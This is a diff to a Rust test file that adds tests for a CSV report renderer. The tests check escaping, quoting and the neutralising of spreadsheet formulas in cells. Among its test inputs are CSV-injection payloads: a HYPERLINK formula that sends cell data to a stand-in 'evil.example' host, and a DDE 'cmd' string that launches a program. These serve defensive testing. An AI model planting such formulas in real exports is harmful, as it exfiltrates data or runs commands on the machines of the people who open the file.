@@ -3,7 +3,7 @@
 
 use backstop::model::{CollectionError, ResourceRef, Source};
 use backstop::render::table::TableOptions;
-use backstop::render::{json, junit, markdown, table};
+use backstop::render::{csv, json, junit, markdown, table};
 use backstop::report::{CATEGORIES, Finding, Report, Severity, Status, WaiverNote};
 use jiff::civil::date;
 
@@ -602,6 +602,110 @@ fn hostile_names_stay_inert_in_markdown() {
             .filter(|&(i, c)| c == '`' && !line[..i].ends_with('\\'))
             .count();
         assert_eq!(bare_backticks % 2, 0, "unbalanced code span: {line}");
+    }
+}
+
+/// The cells of a CSV report, header row first.
+fn csv_rows(text: &str) -> Vec<Vec<String>> {
+    ::csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_string).collect())
+        .collect()
+}
+
+#[test]
+fn hostile_names_round_trip_through_csv() {
+    let report = hostile();
+    let text = csv::render(&report);
+    assert!(
+        !text.contains('\u{1b}') && !text.contains('\u{7}'),
+        "{text}"
+    );
+    let rows = csv_rows(&text);
+    assert_eq!(rows[0], csv::COLUMNS);
+    assert_eq!(rows.len(), 1 + report.results.len());
+    let column = |name: &str| csv::COLUMNS.iter().position(|c| *c == name).unwrap();
+    // The line break stays (quoted), only the controls are gone.
+    let shown = "evil<&>\"'|*_[x](y)\n# headingred";
+    for (row, finding) in rows[1..].iter().zip(&report.results) {
+        assert_eq!(row.len(), csv::COLUMNS.len(), "{row:?}");
+        assert_eq!(row[column("resource_id")], shown);
+        assert_eq!(row[column("message")], shown);
+        assert_eq!(row[column("status")], finding.status.to_string());
+        assert_eq!(row[column("rule")], finding.rule);
+        let waiver = finding.waiver.as_ref();
+        let reason = if waiver.is_some() { shown } else { "" };
+        assert_eq!(row[column("waiver_reason")], reason);
+        let expires = waiver.and_then(|w| w.expires).map(|d| d.to_string());
+        assert_eq!(row[column("waiver_expires")], expires.unwrap_or_default());
+    }
+}
+
+#[test]
+fn csv_quotes_commas_and_newlines_round_trip() {
+    let name = "db \"prod\", eu\nsecond line,\"\"";
+    let mut report = sample();
+    report.results[0].resource.id = name.to_string();
+    report.results[0].resource.address = Some("module.db[\"a,b\"].aws_db_instance.this".into());
+    report.results[0].location = Some(backstop::model::Location {
+        file: "infra/db, main.tf".into(),
+        line: 12,
+    });
+    let rows = csv_rows(&csv::render(&report));
+    let column = |name: &str| csv::COLUMNS.iter().position(|c| *c == name).unwrap();
+    let row = &rows[1];
+    assert_eq!(row[column("resource_id")], name);
+    assert_eq!(
+        row[column("address")],
+        "module.db[\"a,b\"].aws_db_instance.this"
+    );
+    assert_eq!(row[column("file")], "infra/db, main.tf");
+    assert_eq!(row[column("line")], "12");
+    // Results without a location leave file and line empty.
+    assert_eq!(rows[2][column("file")], "");
+    assert_eq!(rows[2][column("line")], "");
+}
+
+/// A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (after
+/// blanks) as a formula: every such user-controlled cell is made text.
+#[test]
+fn csv_cells_never_start_a_formula() {
+    let formulas = [
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r\n=1+1",
+        " =1+1",
+    ];
+    let mut report = sample();
+    for (finding, formula) in report.results.iter_mut().zip(formulas.iter().cycle()) {
+        finding.resource.id = formula.to_string();
+        finding.resource.account = formula.to_string();
+        finding.message = formula.to_string();
+        finding.title = formula.to_string();
+        finding.category = formula.to_string();
+        finding.rule = formula.to_string();
+    }
+    assert!(report.results.len() >= formulas.len());
+    let rows = csv_rows(&csv::render(&report));
+    for row in &rows[1..] {
+        for cell in row {
+            let start = cell.trim_start().chars().next();
+            assert!(
+                !matches!(start, Some('=' | '+' | '-' | '@')),
+                "formula cell {cell:?} in {row:?}"
+            );
+        }
+        // The text itself is kept, behind the quote.
+        let id = &row[csv::COLUMNS
+            .iter()
+            .position(|c| *c == "resource_id")
+            .unwrap()];
+        assert!(id.starts_with('\''), "{id:?}");
     }
 }
 
